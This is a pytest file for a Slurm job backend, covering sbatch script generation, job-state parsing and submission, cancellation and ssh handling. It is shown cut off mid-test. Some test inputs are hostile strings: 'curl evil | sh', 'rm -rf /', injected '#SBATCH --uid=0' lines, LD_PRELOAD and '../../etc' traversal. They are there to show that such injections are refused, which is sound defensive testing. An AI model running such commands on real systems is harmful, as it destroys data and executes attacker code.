from __future__ import annotations

import json
import re
import shlex
import sys
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from blobsync.backends import create_backend
from blobsync.backends.protocol import PortForward, Refused, Surroundings, Unknown
from blobsync.backends.slurm import replies as slurm_replies
from blobsync.backends.slurm.script import build_script
from blobsync.backends.slurm.slurm_backend import SlurmBackend
from blobsync.base.errors import (
    BackendUnavailableError,
    ConfigError,
    JobError,
    JobNotFoundError,
    LostContactError,
    ProcessError,
    ProcessTimeoutError,
    SubmissionError,
    UsageError,
)
from blobsync.base.process import Completed
from blobsync.config.model import Cluster
from blobsync.jobs.timeline import merged_states
from blobsync.jobspec.spec import JobRef, RunInfo, Secrets, State
from tests.fakes.jobs import make_spec
from tests.fakes.runner import Call, ScriptedRunner

TWO_NODES = """\
#!/bin/bash
#SBATCH --job-name=me_1_0badcafe
#SBATCH --comment='blobsync preparing:uni'
#SBATCH --nodes=2
#SBATCH --ntasks-per-node=2
#SBATCH --requeue
#SBATCH --open-mode=append
#SBATCH --signal=B:USR1@60
#SBATCH --output=system_logs/batch.txt
#SBATCH --export=HOME,USER,LOGNAME,SHELL,LANG,PATH,LD_LIBRARY_PATH,VIRTUAL_ENV,CONDA_PREFIX,CONDA_DEFAULT_ENV,\
MODULEPATH,LOADEDMODULES,WANDB_MODE
#SBATCH --gpus-per-node=2
#SBATCH --time=2-00:00:00
#SBATCH --partition=gpu
#SBATCH --array=0-9%2
#SBATCH --cpus-per-task=4
#SBATCH --mail-type=END

export BLOBSYNC_SCRATCH='/fast disk'
export SRUN_CPUS_PER_TASK=4
# squeue shows the comment: which jobs still prepare their nodes, also after a requeue.
comment() {
    scontrol update JobId="$SLURM_JOB_ID" Comment="$1" >/dev/null 2>&1
}
[ "${SLURM_RESTART_COUNT:-0}" = 0 ] || comment 'blobsync preparing:uni'
# --chdir is the job's own folder.
RUN=$PWD
echo "${SLURM_ARRAY_JOB_ID:-$SLURM_JOB_ID}" > slurm_job_id
TASK=$RUN${SLURM_ARRAY_TASK_ID:+/task_$SLURM_ARRAY_TASK_ID}
mkdir -p "$TASK/user_logs" "$TASK/system_logs"
rm -rf "$TASK/exit_code" "$TASK/job_code" "$TASK/up"
mkdir "$TASK/up"
export MASTER_ADDR=$(scontrol show hostnames "$SLURM_JOB_NODELIST" | head -n1)
export MASTER_PORT=$((20000 + SLURM_JOB_ID % 20000))
export HWLOC_COMPONENTS="${HWLOC_COMPONENTS:--gl}"
export BLOBSYNC_HOSTS=$(scontrol show hostnames "$SLURM_JOB_NODELIST" | paste -sd,)
# A program may start srun or mpirun itself. These would wait for what our own steps hold (Slurm before 20.11 knows no
# option --overlap, and does not need it), and would pass on only what sbatch was told to export.
export SLURM_OVERLAP=1 SLURM_EXPORT_ENV=ALL
PLACE=(--job "$RUN/job.json" --secrets "$RUN/secrets.json" --run-dir "$RUN" --sync-seconds 30)
ONCE_PER_NODE=(srun --export=ALL --ntasks="$SLURM_JOB_NUM_NODES" --ntasks-per-node=1 --kill-on-bad-exit=1)
ended() {
    echo "$1" > "$TASK/exit_code.new" && mv "$TASK/exit_code.new" "$TASK/exit_code"
    exit "$1"
}

# A warning waits until all 4 processes are there to hear it.
warn() {
    warned=1
    [ -n "${child:-}" ] || return
    until [ "$(ls "$TASK/up" | wc -l)" -ge 4 ]; do
        kill -0 "$child" 2>/dev/null || return
        sleep 0.5
    done
    # And has come up: some clusters signal the program itself, ready or not.
    sleep 3
    kill -USR1 "$child"
}
trap warn USR1

# Once per node: the last uploads, and nothing left behind.
finish() {
    "${ONCE_PER_NODE[@]}" --open-mode=append --output="$TASK/system_logs/finish.txt" \\
        python3 -I "$RUN/bootstrap.py" finish "${PLACE[@]}" --code "$1"
}

# Once per node: the code, the folders, the setup commands.
"${ONCE_PER_NODE[@]}" --open-mode=append --output="$TASK/system_logs/prepare.txt" \\
    python3 -I "$RUN/bootstrap.py" prepare "${PLACE[@]}" || { finish 72; ended 72; }
comment blobsync:uni

# Once per process, in the background so that the traps act at once.
srun --export=ALL --kill-on-bad-exit=1 --open-mode=append --output="$TASK/user_logs/std_log_process_%t.txt" \\
    python3 -I "$RUN/bootstrap.py" exec "${PLACE[@]}" &
child=$!
trap 'kill -TERM "$child"' TERM
[ -z "${warned:-}" ] || warn
while :; do
    wait "$child"; code=$?
    kill -0 "$child" 2>/dev/null || break
done
[ "$code" = 0 ] || ! [ -s "$TASK/job_code" ] || code=$(cat "$TASK/job_code")

finish "$code" || { [ "$code" -ne 0 ] || code=73; }
ended "$code"
"""


def squeue_line(**fields: str) -> str:
    """A line in the format of ``squeue -h -O``: padded and cut."""
    shown = {"JobArrayID": "17", "State": "RUNNING", "NumNodes": "1", "UserName": "me", **fields}
    widths = [part.split(":") for part in slurm_replies.SQUEUE_FORMAT.split(",")]
    return "".join(shown.get(name, "")[: int(width)].ljust(int(width)) for name, width in widths)


Answers = dict[str, Completed | ProcessError | Callable[[str], Completed]]


def file_work(folder: str, number: str = "") -> Callable[[str], Completed]:
    """The login node's responses if a job's folder is ``folder``, and the job has recorded ``number``."""

    def answer(asked: str) -> Completed:
        verb = json.loads(asked)["verb"]
        return answer_of({"write": folder, "find": [folder, number]}.get(verb))

    return answer


class ScriptedProcess(ScriptedRunner):
    """Responds by the program's name."""

    def __init__(self, answers: Answers | None = None) -> None:
        super().__init__(self._answer)
        self.answers: Answers = answers or {}
        self.breaks_at = ""
        self.broken: Completed | ProcessError | Callable[[str], Completed] = Completed(255, "", "")

    def _answer(self, call: Call) -> Completed:
        # Over ssh a shell runs the command.
        command = shlex.split(call.argv[-1])[4:] if call.argv[0] == "ssh" else call.argv
        answer = self.answers.get(call.argv[0], self.answers.get(command[0], Completed(0, "", "")))
        if self.breaks_at and (self.breaks_at == command[0] or f'"verb": "{self.breaks_at}"' in (call.input or "")):
            answer = self.broken
        if callable(answer):
            answer = answer(call.input or "")
        if isinstance(answer, ProcessError):
            raise answer
        return answer

    @property
    def inputs(self) -> list[str | None]:
        return [call.input for call in self.calls]

    def programs(self) -> list[str]:
        return [call.argv[0] for call in self.calls]


def make_backend(process: ScriptedProcess, **settings: Any) -> SlurmBackend:
    cluster = Cluster("uni", "uni.yaml", Path("/p"), platform="slurm", values=settings)
    backend = create_backend(Surroundings(cluster, Path("/p/.blobsync"), {}, process))
    assert isinstance(backend, SlurmBackend)
    return backend


def answer_of(value: object) -> Completed:
    return Completed(0, json.dumps({"answer": value}), "")


# -- the script ----------------------------------------------------------------------------------------------------


def test_the_script_of_two_nodes() -> None:
    spec = make_spec("python", "train.py", nodes=2, procs_per_node=2, gpus_per_node=2, cluster="uni")
    options = {
        "partition": "gpu",
        "time": "2-00:00:00",
        "cpus_per_task": 4,
        "array": "0-9%2",
        "export": ["WANDB_MODE"],
        "args": ["--mail-type=END"],
        "scratch": "/fast disk",
        "sync_seconds": 30,
    }
    assert build_script(spec, options) == TWO_NODES


def test_a_job_that_comes_after_another_waits_for_its_number_alone() -> None:
    def lines(number: object) -> str:
        options: Any = {"after": {"run_id": "me_1_600dcafe", "native_id": number}}
        return build_script(make_spec("true", options=options), {"mem": "4G", **options})

    assert "#SBATCH --dependency=afterok:41\n#SBATCH --kill-on-invalid-dep=yes\n" in lines("41")
    for number in ("41:42", "", "x", "41\n#SBATCH --wrap=evil", None):
        with pytest.raises(ConfigError, match="is not a Slurm job number"):
            lines(number)


def test_the_script_of_one_process_without_gpu_under_mpirun() -> None:
    env = {"LIST": "a, 'b'", "MASTER_PORT": "1", "not a name": "x", "BAD": "nul\0", "LOST": "\ud800"}
    spec = make_spec("true", timeout_s=5401, env=env)
    script = build_script(spec, {"launcher": "mpirun", "gres": "fpga:{gpus}"})
    assert "#SBATCH --time=91\n" in script
    assert "--gpus-per-node" not in script and "--gres" not in script
    env_words = """env 'LIST=a, '"'"'b'"'"''"""
    mpirun = f"{env_words} mpirun --npernode 1 -x MASTER_ADDR -x MASTER_PORT -x BLOBSYNC_HOSTS"
    assert f"{mpirun} \\\n    python3" in script
    assert 'exec "${PLACE[@]}" --log &' in script


@pytest.mark.parametrize(
    ("gres", "asked"),
    [
        ("", ["gpus-per-node=4"]),
        ("craynetwork:1", ["gpus-per-node=4", "gres=craynetwork:1"]),
        ("gpu:a100:4", ["gres=gpu:a100:4"]),
        ("craynetwork:1,gpu:4", ["gres=craynetwork:1,gpu:4"]),
        ("gres/shard:8", ["gres=gres/shard:8"]),
        ("volta:{gpus}", ["gres=volta:4"]),
    ],
)
def test_gpus_are_asked_for_unless_the_gres_names_some(gres: str, asked: list[str]) -> None:
    script = build_script(make_spec("true", gpus_per_node=4), {"gres": gres})
    assert re.findall(r"#SBATCH --(g\S+)", script) == asked


def test_the_script_of_an_elastic_job_outlives_the_nodes_that_it_loses() -> None:
    script = build_script(make_spec("torchrun", nodes=1, min_nodes=1, max_nodes=2), {})
    assert "#SBATCH --nodes=1-2\n#SBATCH --no-kill\n" in script
    assert "srun --no-kill --kill-on-bad-exit=0 --wait=0 " in script


def test_one_process_has_the_log_name_of_azure_ml() -> None:
    assert 'user_logs/std_log.txt"' in build_script(make_spec("true"), {})


def test_option_values_cannot_add_directives() -> None:
    script = build_script(make_spec("true"), {"partition": "a b; rm -rf /"})
    assert "#SBATCH --partition='a b; rm -rf /'\n" in script


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("time", "1\n#SBATCH --uid=0"),
        ("args", ["--mail-type=END\ncurl evil | sh\n"]),
        ("partition", "a\rb"),
        ("scratch", "/x\nrm -rf ~"),
        ("gres", "gpu\x85:1"),
        ("export", ["A\nB"]),
        ("export", ["ALL,LD_PRELOAD=/x"]),
        ("cpus_per_task", "4\nexclusive"),
        ("python", "python3\nevil"),
    ],
)
def test_no_setting_can_add_a_line_to_the_script(key: str, value: object) -> None:
    with pytest.raises(ConfigError) as caught:
        build_script(make_spec("true"), {key: value})
    assert (caught.value.key or "").startswith("slurm.") and "\n" not in caught.value.message


def test_a_cluster_file_whose_name_has_a_line_break_is_refused() -> None:
    with pytest.raises(ConfigError, match="line break"):
        build_script(make_spec("true", cluster="a\n#SBATCH --uid=0\nb"), {})
    assert "#SBATCH --comment='blobsync preparing:a b; c'\n" in build_script(make_spec("true", cluster="a b; c"), {})


def test_a_time_cannot_add_an_option_to_its_line() -> None:
    assert "#SBATCH --time='1 --uid=0'\n" in build_script(make_spec("true"), {"time": "1 --uid=0"})


# -- states ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "state"),
    [
        (("PENDING", "REQUEUED", "SUSPENDED"), State.QUEUED),
        (("CONFIGURING",), State.PREPARING),
        (("RUNNING", "COMPLETING"), State.RUNNING),
        (("COMPLETED",), State.COMPLETED),
        (("FAILED", "TIMEOUT", "NODE_FAIL", "OUT_OF_MEMORY", "PREEMPTED"), State.FAILED),
        (("CANCELLED", "CANCELLED by 1000", "CANCELLED+"), State.CANCELED),
        (("SOMETHING_NEW",), State.UNKNOWN),
    ],
)
def test_slurms_words(words: tuple[str, ...], state: State) -> None:
    assert {slurm_replies.SlurmJob("1", word).state for word in words} == {state}


def test_a_preempted_job_that_waits_again_is_queued_with_one_restart_more() -> None:
    line = squeue_line(State="PENDING", RestartCnt="1", Reason="BeginTime", StartTime="2026-11-21T07:00:00")
    info = slurm_replies.as_run_info("me_1_a", slurm_replies.read_squeue(line)["17"])
    assert info == RunInfo("me_1_a", State.QUEUED, restarts=1, reason="BeginTime")


@pytest.mark.parametrize("ended", ["NONE", "N/A", "2026-11-27T13:42:52"])
def test_a_requeued_job_whose_nodes_are_put_in_order_does_not_run(ended: str) -> None:
    # As Slurm 22.05 writes it until the epilog has ended; a run that ends has its time.
    times = {"StartTime": "2026-11-27T13:42:25", "EndTime": ended}
    line = squeue_line(State="COMPLETING", RestartCnt="1", NodeList="n1", Reason="None", **times)
    info = slurm_replies.as_run_info("me_1_a", slurm_replies.read_squeue(line)["17"])
    runs = ended.startswith("2026")
    assert (info.state, info.restarts) == (State.RUNNING if runs else State.QUEUED, 1)
    assert [change.state for change in merged_states(0.0, info)] == [State.QUEUED, *([State.RUNNING] if runs else [])]


@pytest.mark.parametrize(
    ("word", "comment", "state"),
    [
        ("RUNNING", "blobsync preparing:uni", State.PREPARING),
        ("RUNNING", "blobsync:uni", State.RUNNING),
        ("RUNNING", "blobsync:preparing:uni", State.RUNNING),
        # It was requeued while it prepared its nodes, and has not begun again.
        ("PENDING", "blobsync preparing:uni", State.QUEUED),
        ("COMPLETING", "blobsync preparing:uni", State.RUNNING),
        ("FAILED", "blobsync preparing:uni", State.FAILED),
    ],
)
def test_a_job_whose_nodes_are_made_ready_prepares(word: str, comment: str, state: State) -> None:
    line = squeue_line(State=word, Comment=comment, EndTime="2026-11-27T13:42:52")
    assert slurm_replies.as_run_info("me_1_a", slurm_replies.read_squeue(line)["17"]).state is state


@pytest.mark.parametrize("nodes", ["", "n1"])
def test_a_job_that_was_canceled_while_it_waited_never_began(nodes: str) -> None:
    at = "2026-11-27T13:42:25"
    line = squeue_line(State="CANCELLED", NodeList=nodes, StartTime=at, EndTime=at)
    info = slurm_replies.as_run_info("me_1_a", slurm_replies.read_squeue(line)["17"])
    assert (info.state, info.ended) == (State.CANCELED, datetime.fromisoformat(at).timestamp())
    assert info.started == (info.ended if nodes else None)


@pytest.mark.parametrize(("status", "code"), [("0", 0), ("1792", 7), ("15", 143), ("9", 137)])
def test_wait_statuses_become_exit_codes(status: str, code: int) -> None:
    line = squeue_line(State="FAILED", exit_code=status, NodeList="n[1-2]", Reason="NonZeroExitCode")
    info = slurm_replies.as_run_info("me_1_a", slurm_replies.read_squeue(line)["17"])
    assert (info.exit_code, info.nodes, info.reason) == (code, ("n1", "n2"), "NonZeroExitCode")


def test_a_running_job_has_no_exit_code_yet() -> None:
    info = slurm_replies.as_run_info("me_1_a", slurm_replies.read_squeue(squeue_line(exit_code="0"))["17"])
    assert (info.state, info.exit_code, info.ended) == (State.RUNNING, None, None)


def test_an_array_is_as_far_as_its_slowest_task() -> None:
    text = "\n".join(
        [
            squeue_line(JobArrayID="5_[2-9%2]", State="PENDING"),
            squeue_line(JobArrayID="5_0", State="COMPLETED"),
            squeue_line(JobArrayID="5_1", State="RUNNING", NodeList="n1"),
        ]
    )
    info = slurm_replies.as_run_info("me_1_a", slurm_replies.read_squeue(text)["5"])
    assert (info.state, info.nodes) == (State.RUNNING, ("n1",))
    states = {task.number: task.state for task in info.tasks}
    assert states[0] is State.COMPLETED and states[1] is State.RUNNING
    assert {states[number] for number in range(2, 10)} == {State.QUEUED}


def test_an_array_fails_with_its_first_failed_task() -> None:
    text = "\n".join(
        [
            squeue_line(JobArrayID="5_0", State="COMPLETED"),
            squeue_line(JobArrayID="5_1", State="FAILED", exit_code="768"),
        ]
    )
    info = slurm_replies.as_run_info("me_1_a", slurm_replies.read_squeue(text)["5"])
    assert (info.state, info.exit_code) == (State.FAILED, 3)


def test_the_accounting_tells_the_runs_before_a_job_was_requeued() -> None:
    lines = (
        "17|FAILED|1:0|2025-01-01T00:00:00|2025-01-01T01:00:00|n9|another-job",
        "17|PREEMPTED|0:0|2026-11-20T10:00:00|2026-11-20T11:00:00|n1|me_1",
        "17|NODE_FAIL|0:0|2026-11-20T12:00:00|2026-11-20T13:00:00|n1|me_1",
        "17|COMPLETED|0:0|2026-11-20T14:00:00|2026-11-20T15:00:00|n2|me_1",
    )
    for text in ("\n".join(lines), "\n".join(reversed(lines))):
        info = slurm_replies.as_run_info("me_1", slurm_replies.read_sacct(text)["17"])
        assert (info.state, info.restarts, info.nodes) == (State.COMPLETED, 2, ("n2",))
        began = datetime(2026, 11, 20, 10).timestamp()
        assert [((one.at - began) / 3600, one.state, one.restarts) for one in info.states] == [
            (0, State.RUNNING, 0), (1, State.QUEUED, 1), (2, State.RUNNING, 1), (3, State.QUEUED, 2),
        ]  # fmt: skip
        spans = merged_states(began - 60, info)
        assert [one.state.value for one in spans] == [
            *("Queued", "Running", "Queued", "Running", "Queued", "Running", "Completed")
        ]
    waits = slurm_replies.read_sacct(f"{lines[1]}\n17|PENDING|0:0|Unknown|Unknown|None assigned|me_1")["17"]
    assert (waits.state, waits.restarts) == (State.QUEUED, 1)


def test_sacct_lines() -> None:
    text = (
        "17|FAILED|7:0|2026-11-21T07:00:00|2026-11-21T07:05:00|n[08-10],m1\n"
        "18|CANCELLED by 0|0:15|Unknown|Unknown|None assigned"
    )
    jobs = slurm_replies.read_sacct(text)
    info = slurm_replies.as_run_info("a", jobs["17"])
    assert (info.state, info.exit_code, info.nodes) == (State.FAILED, 7, ("n08", "n09", "n10", "m1"))
    assert info.started and info.ended and info.ended - info.started == 300
    assert slurm_replies.as_run_info("b", jobs["18"]).state is State.CANCELED
    assert jobs["18"].nodes == ()


def test_the_reason_of_a_failure_names_what_slurm_calls_it() -> None:
    info = slurm_replies.as_run_info("a", slurm_replies.SlurmJob("1", "NODE_FAIL", reason="None"))
    assert info.reason == "NODE_FAIL"


def test_gpus_are_counted_with_and_without_types() -> None:
    assert slurm_replies.count_gpus("gpu:a100:4(S:0-1),gpu:2") == 6
    assert slurm_replies.count_gpus("gpu:8") == 8
    assert slurm_replies.count_gpus("gres:gpu:2") == 2
    assert slurm_replies.count_gpus("(null)") == 0
    assert slurm_replies.count_gpus("N/A") == 0


def test_the_summary_counts_each_node_once() -> None:
    def node(name: str, word: str, gres: str, used: str) -> str:
        return name.ljust(64) + word.ljust(32) + gres.ljust(96) + used.ljust(96)

    lines = [
        node("n1", "mixed", "gpu:a100:8", "gpu:a100:6(IDX:0-5)"),
        node("n1", "mixed", "gpu:a100:8", "gpu:a100:6(IDX:0-5)"),
        node("n2", "idle", "gpu:a100:8", "gpu:a100:0(IDX:N/A)"),
        node("n3", "down*", "gpu:a100:8", "gpu:a100:0(IDX:N/A)"),
    ]
    summary = slurm_replies.read_summary(lines, [squeue_line(), squeue_line(State="PENDING")])
    assert (summary.nodes_total, summary.nodes_free, summary.gpus_total, summary.gpus_free) == (3, 1, 24, 10)
    assert (summary.jobs_running, summary.jobs_queued) == (1, 1)
    assert summary.notes == ("down or drained: 1 node",)


def test_nodes_and_gpus_held_by_each_user() -> None:
    lines = [
        squeue_line(NumNodes="2", **{"tres-per-node": "gres:gpu:4"}),
        squeue_line(JobArrayID="18", State="COMPLETED"),
    ]
    holders = slurm_replies.read_holders(slurm_replies.read_tasks("\n".join(lines)).values())
    assert [(one.user, one.gpus, one.nodes) for one in holders] == [("me", 8, 2)]


def test_complaints_are_the_sentence_alone() -> None:
    text = "sbatch: warning: x\nsbatch: error: Batch job submission failed: Invalid qos specification\n"
    assert slurm_replies.complaint(text) == "Batch job submission failed: Invalid qos specification"
    assert slurm_replies.complaint("") == "no reason given"


# -- the commands --------------------------------------------------------------------------------------------------


def test_everything_goes_through_ssh_when_there_is_a_login_node() -> None:
    process = ScriptedProcess(
        {"python3": file_work("/home/me/.blobsync/jobs/x"), "sbatch": Completed(0, "42;uni\n", "")}
    )
    backend = make_backend(process, ssh="me@login")
    plan = backend.plan(make_spec("echo", "a b"))
    assert plan.request.folder == "~/.blobsync/jobs/me_1_0badcafe"
    ref = backend.submit(plan, Secrets({"u": "sig=SENTINEL"}))
    assert ref == JobRef("me_1_0badcafe", "42", "/home/me/.blobsync/jobs/x")
    assert {call.argv[:5] for call in process.calls} == {("ssh", "-o", "BatchMode=yes", "--", "me@login")}
    # Secrets are passed on standard input, never in an argument.
    assert not any("SENTINEL" in word for call in process.calls for word in call.argv)
    assert any("SENTINEL" in (text or "") for text in process.inputs)


@pytest.mark.parametrize(
    ("code", "said", "shown"),
    [
        (
            1,
            "sbatch: error: Batch job submission failed: Invalid partition name specified",
            "Batch job submission failed",
        ),
        (255, "sbatch: error: Invalid --time specification", "Invalid --time specification"),
        (
            255,
            "sbatch: unrecognized option '--bogus'\nTry \"sbatch --help\" for more information",
            "unrecognized option '--bogus'",
        ),
    ],
)
def test_what_slurm_refuses_is_reported_in_its_words(code: int, said: str, shown: str) -> None:
    process = ScriptedProcess({sys.executable: file_work("/x"), "sbatch": Completed(code, "", f"{said}\n")})
    backend = make_backend(process)
    outcome = backend.submit(backend.plan(make_spec()), Secrets())
    assert isinstance(outcome, Refused) and isinstance(outcome.error, SubmissionError)
    assert f"rejected the job: {shown}" in outcome.error.message
    assert [json.loads(text)["verb"] for text in process.inputs if text] == ["write", "find", "clear"]


def test_a_job_that_is_known_under_its_name_is_not_submitted_again() -> None:
    process = ScriptedProcess({sys.executable: file_work("/x"), "squeue": Completed(0, squeue_line(), "")})
    backend = make_backend(process)
    outcome = backend.submit(backend.plan(make_spec()), Secrets())
    assert outcome == JobRef("me_1_0badcafe", "17", "/x")
    assert "sbatch" not in process.programs()


@pytest.mark.parametrize(
    ("answers", "settings", "message"),
    [
        (
            {"squeue": ProcessError("cannot start squeue: No such file or directory")},
            {},
            "cannot be run on this machine",
        ),
        ({"ssh": Completed(255, "", "Permission denied (publickey).\n")}, {"ssh": "me@x"}, "cannot connect to me@x"),
        ({"ssh": Completed(127, "", "bash: squeue: command not found\n")}, {"ssh": "me@x"}, "squeue is not on me@x"),
        ({"squeue": Completed(1, "", "slurm_load_jobs error: Unable to contact controller\n")}, {}, "does not respond"),
    ],
)
def test_a_cluster_that_cannot_be_asked(answers: Answers, settings: dict[str, Any], message: str) -> None:
    with pytest.raises(BackendUnavailableError, match=message):
        make_backend(ScriptedProcess(answers), **settings).get([JobRef("a", "1", "/x")])


def test_one_question_for_all_jobs() -> None:
    process = ScriptedProcess(
        {"squeue": Completed(0, "\n".join([squeue_line(), squeue_line(JobArrayID="18", State="PENDING")]), "")}
    )
    infos = make_backend(process).get([JobRef("b", "18", "/b"), JobRef("a", "17", "/a")])
    assert [(info.run_id, info.state) for info in infos] == [("b", State.QUEUED), ("a", State.RUNNING)]
    assert process.programs() == ["squeue"]
    assert process.calls[0].argv[-2:] == ("-j", "18,17")


def test_a_job_whose_comment_must_not_be_changed_runs_once_its_program_does() -> None:
    preparing = {"Comment": "blobsync preparing:uni"}
    jobs = [squeue_line(JobArrayID=number, **preparing) for number in ("17", "18")]
    squeue = Completed(0, "\n".join([*jobs, squeue_line(JobArrayID="19", State="CONFIGURING", **preparing)]), "")
    process = ScriptedProcess({"squeue": squeue, sys.executable: answer_of([True, False])})
    infos = make_backend(process).get([JobRef("a", "17", "/a"), JobRef("b", "18", "/b"), JobRef("c", "19", "/c")])
    assert [info.state for info in infos] == [State.RUNNING, State.PREPARING, State.PREPARING]
    # What Slurm itself still prepares has not begun, whatever an earlier run left.
    assert json.loads(process.inputs[-1] or "") == {"verb": "begun", "folders": ["/a", "/b"]}
    # In lists too, by what squeue says alone.
    names = {"17": "me_1_0badcafe", "18_3": "me_2_0badcafe", "19": "../../etc"}
    lines = [squeue_line(JobArrayID=number, Name=name, **preparing) for number, name in names.items()]
    squeue = Completed(0, "\n".join(lines), "")
    begun = ["~/.blobsync/jobs/me_1_0badcafe", "~/.blobsync/jobs/me_2_0badcafe"]
    process = ScriptedProcess({"squeue": squeue, sys.executable: answer_of([True, False, False])})
    backend = make_backend(process, job_root="~/.blobsync/jobs")
    told = [State.RUNNING, State.PREPARING, State.PREPARING]
    assert [holder.state for holder in backend.blame()] == told
    assert json.loads(process.inputs[-1] or "") == {"verb": "begun", "folders": [begun[0], f"{begun[1]}/task_3", ""]}


def test_forgotten_jobs_are_looked_for_in_the_accounting_and_then_in_their_own_file() -> None:
    process = ScriptedProcess(
        {
            "squeue": Completed(1, "", "slurm_load_jobs error: Invalid job id specified\n"),
            "sacct": Completed(0, "17|COMPLETED|0:0|Unknown|Unknown|n1\n", ""),
            sys.executable: answer_of([[7, 1000.0], None]),
        }
    )
    refs = [JobRef("a", "17", "/a"), JobRef("b", "18", "/b"), JobRef("c", "19", "/c")]
    infos = make_backend(process).get(refs)
    assert [(info.state, info.exit_code) for info in infos] == [
        (State.COMPLETED, 0),
        (State.FAILED, 7),
        (State.UNKNOWN, None),
    ]
    asked = json.loads(process.inputs[-1] or "")
    assert asked["folders"] == ["/b", "/c"]
    # Files that only a running job needs are removed after its end.
    assert asked["ended"] == ["/a"]


def test_without_accounting_the_exit_code_file_is_enough() -> None:
    process = ScriptedProcess(
        {
            "squeue": Completed(0, "", ""),
            "sacct": Completed(1, "", "Slurm accounting storage is disabled\n"),
            sys.executable: answer_of([[0, 1000.0]]),
        }
    )
    info = make_backend(process).get([JobRef("a", "17", "/a")])[0]
    assert (info.state, info.exit_code, info.ended) == (State.COMPLETED, 0, 1000.0)


def test_cancelling_says_what_slurm_said() -> None:
    ref = JobRef("a", "17", "/a")
    gone = Completed(1, "", "scancel: error: Kill job error on job id 17: Invalid job id specified\n")
    ended = ScriptedProcess({"scancel": gone, "squeue": Completed(0, "", ""), sys.executable: answer_of([[0, 1.0]])})
    make_backend(ended).cancel(ref)
    lost = ScriptedProcess({"scancel": gone, sys.executable: answer_of([None])})
    with pytest.raises(JobNotFoundError):
        make_backend(lost).cancel(ref)
    timed_out = "Socket timed out on send/recv operation"
    for said, kind in (("Access/permission denied", JobError), (timed_out, LostContactError)):
        denied = Completed(1, "", f"scancel: error: Kill job error on job id 17: {said}\n")
        with pytest.raises(JobError, match=said) as caught:
            make_backend(ScriptedProcess({"scancel": denied})).cancel(ref)
        assert type(caught.value) is kind
    cut = ScriptedProcess({"ssh": Completed(255, "", "Connection closed\n")})
    with pytest.raises(LostContactError):
        make_backend(cut, ssh="me@x").cancel(ref)


def test_a_foreign_job_with_the_same_number_is_neither_shown_nor_stopped() -> None:
    other = squeue_line(Name="colleague_1_b")
    process = ScriptedProcess({"squeue": Completed(0, other, ""), sys.executable: answer_of([None])})
    backend, ref = make_backend(process), JobRef("a", "17", "/a")
    assert backend.get([ref])[0].state is State.UNKNOWN
    with pytest.raises(JobNotFoundError):
        backend.cancel(ref)
    assert [call.argv for call in process.calls if call.argv[0] == "scancel"] == [("scancel", "--name=a", "17")]


@pytest.mark.parametrize(
    ("native_id", "place"), [("--help", "/a"), ("1 2", "/a"), ("17", "/"), ("17", "a"), ("17", "/x/../a"), ("17", "/b")]
)
def test_what_a_history_says_of_a_job_does_not_reach_a_command_unchecked(native_id: str, place: str) -> None:
    process = ScriptedProcess({sys.executable: answer_of([None])})
    with pytest.raises(JobError, match="recorded for a, is"):
        make_backend(process).get([JobRef("a", native_id, place)])
    assert process.programs() in ([], ["squeue", "sacct"])


LOST = (
    {"ssh": Completed(255, "", "client_loop: send disconnect: Broken pipe\n")},
    {"ssh": ProcessTimeoutError("ssh did not finish within 120 seconds")},
    {"ssh": Completed(137, "", "Killed\n")},
    {
        "sbatch": Completed(
            1, "", "sbatch: error: Batch job submission failed: Socket timed out on send/recv operation\n"
        )
    },
    {"sbatch": Completed(0, "Welcome to the cluster!\n", "")},
)


@pytest.mark.parametrize("answers", LOST, ids=["255", "time-out", "killed", "controller", "no number"])
def test_a_submission_whose_answer_got_lost_is_unknown_and_keeps_what_the_job_needs(answers: Answers) -> None:
    process = ScriptedProcess(
        {"python3": file_work("/home/me/x"), **{key: answers[key] for key in answers if key != "ssh"}}
    )
    if "ssh" in answers:
        process.breaks_at, process.broken = "sbatch", answers["ssh"]
    backend = make_backend(process, ssh="me@x")
    outcome = backend.submit(backend.plan(make_spec()), Secrets())
    assert isinstance(outcome, Unknown)
    assert "clear" not in [json.loads(text)["verb"] for text in process.inputs if text]


@pytest.mark.parametrize("way", ["squeue", "sacct", "its own file"])
def test_a_submission_whose_answer_got_lost_is_found_again(way: str) -> None:
    answers: Answers = {
        sys.executable: file_work("/x", "17" if way == "its own file" else ""),
        "sbatch": ProcessTimeoutError("sbatch did not finish within 120 seconds"),
    }
    line = squeue_line() if way == "squeue" else "17|RUNNING|0:0|Unknown|Unknown|n1|me_1_0badcafe\n"
    process = ScriptedProcess(answers)
    backend = make_backend(process)
    assert isinstance(backend.submit(backend.plan(make_spec()), Secrets()), Unknown) is (way != "its own file")
    if way != "its own file":
        process.answers[way] = Completed(0, line, "")
    assert backend.locate(make_spec()) == JobRef("me_1_0badcafe", "17", "/x")


def test_what_could_not_be_removed_after_a_refusal_is_named() -> None:
    process = ScriptedProcess({"python3": file_work("/x"), "squeue": Completed(1, "", "slurm_load_jobs error: no\n")})
    process.breaks_at, process.broken = "clear", Completed(255, "", "")
    backend = make_backend(process, ssh="me@x")
    outcome = backend.submit(backend.plan(make_spec()), Secrets())
    assert isinstance(outcome, Refused)
    assert "remove ~/.blobsync/jobs/me_1_0badcafe/secrets.json on me@x" in (outcome.error.hint or "")


def test_ssh_goes_beside_the_job_on_the_node_that_was_asked_for() -> None:
    process = ScriptedProcess({"squeue": Completed(0, squeue_line(NodeList="n[1-2]"), "")})
    argv = make_backend(process).ssh_command(JobRef("a", "17", "/a"), 1)
    assert argv == ("srun", "--overlap", "--jobid", "17", "-w", "n2", "-N1", "-n1", "--pty", "bash")
    remote = make_backend(process, ssh="me@x").ssh_command(JobRef("a", "17", "/a"), 0)
    assert remote[:2] == ("ssh", "-t") and remote[-1].endswith("-w n1 -N1 -n1 --pty bash")
    inside = make_backend(process, python="py").ssh_command(JobRef("a", "17", "/a"), 1, holds=True)
    way_in = ("py", "-I", "/a/interactive.py", "enter", "--place", "/a/interactive", "--node", "1")
    assert inside[-len(way_in) :] == way_in and inside[-len(way_in) - 1] == "--pty"
    with pytest.raises(JobError, match="has no node 2"):
        make_backend(process).ssh_command(JobRef("a", "17", "/a"), 2)


@pytest.mark.parametrize(
    ("settings", "node_ssh", "end", "address"),
    [
        ({"ssh": "me@x"}, False, ("-L", "127.0.0.1:8888:10.0.0.7:80", "--", "me@x"), "10.0.0.7"),
